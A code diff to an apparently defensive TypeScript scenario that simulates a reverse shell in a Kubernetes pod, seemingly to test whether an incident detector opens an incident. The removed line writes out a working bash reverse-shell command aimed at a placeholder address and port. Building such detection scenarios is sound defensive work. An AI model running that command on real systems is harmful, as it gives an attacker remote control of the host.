@@ -2,11 +2,10 @@ import type { Incident } from '../../shared/model/incident.ts';
 import { SHOP } from '../world/seed.ts';
 import { endingMissing, stepsMissing } from './ending.ts';
 import type { Scenario } from './scenario.ts';
-import { execEvent } from './shop.ts';
+import { execEvent, REVERSE_SHELL } from './shop.ts';
 
 const NAMESPACE = 'shop';
 const APP = 'cart';
-const COMMAND = 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
 
 const missingOf = (incident: Incident | undefined): string[] => {
   if (incident === undefined) return [`no incident on a pod of ${NAMESPACE}/${APP} was opened`];
@@ -21,7 +20,7 @@ export const reverseShell: Scenario = {
     'ana@example.com, whose laptop was stolen, runs a shell in a pod of Deployment shop/cart.',
     'Its input and output go to 198.51.100.7; the only evidence is the audit log entry that the API server writes.',
   ],
-  events: (world, now) => [execEvent(world, now, { namespace: NAMESPACE, app: APP, command: COMMAND })],
+  events: (world, now) => [execEvent(world, now, { namespace: NAMESPACE, app: APP, command: REVERSE_SHELL })],
   missing: (incidents) =>
     missingOf(incidents.find(({ target }) => target.namespace === NAMESPACE && target.cluster === SHOP.cluster)),
 };
